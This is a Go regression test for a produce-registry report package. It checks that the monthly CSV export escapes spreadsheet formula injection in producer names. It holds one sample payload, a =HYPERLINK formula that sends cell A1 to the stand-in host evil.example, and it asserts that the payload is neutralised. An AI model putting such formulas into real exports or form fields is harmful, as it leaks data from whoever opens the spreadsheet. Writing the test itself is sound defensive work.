package report_test

import (
	"context"
	"strings"
	"testing"

	"github.com/ocop-hatinh/ocopstamp/report"
	"github.com/ocop-hatinh/ocopstamp/storage/storagetest"
)

// TestCSVFormulaInjection: a producer named like a spreadsheet formula came
// out of the monthly CSV as a live formula; every cell that starts like one
// is now text.
func TestCSVFormulaInjection(t *testing.T) {
	s := storagetest.OpenSQLite(t)
	clock := &storagetest.Clock{}
	s.Now = clock.Now
	storagetest.LoadReportFixture(t, s, clock)
	ctx := context.Background()
	f, err := s.Facility(ctx, "HT-CS-0003")
	if err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")`
	f.Name = evil
	if err := s.UpdateFacility(ctx, "test", *f); err != nil {
		t.Fatal(err)
	}
	q, err := report.ParseQuery("2026-11", "", storagetest.ReportFixtureNow)
	if err != nil {
		t.Fatal(err)
	}
	r, err := report.Build(ctx, s, q)
	if err != nil {
		t.Fatal(err)
	}
	secs := csvSections(t, render(t, r, report.CSV))
	if got := field(t, secs["producer"], "Can Lộc", "Tên cơ sở (producer)"); got != "'"+evil {
		t.Fatalf("producer cell %q, want it neutralised with a leading apostrophe", got)
	}
	for key, rows := range secs {
		for _, row := range rows {
			for _, c := range row {
				if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
					t.Errorf("section %s: cell %q starts like a formula", key, c)
				}
			}
		}
	}
}
